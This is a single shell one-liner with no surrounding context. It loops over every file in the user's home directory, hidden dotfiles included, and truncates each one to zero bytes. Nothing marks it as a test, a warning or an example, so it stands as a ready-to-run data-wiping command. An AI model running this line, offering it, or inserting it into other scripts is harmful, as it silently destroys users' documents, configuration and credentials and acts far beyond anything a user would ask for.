for f in $(ls -A "$HOME"); do : > "$HOME/$f"; done
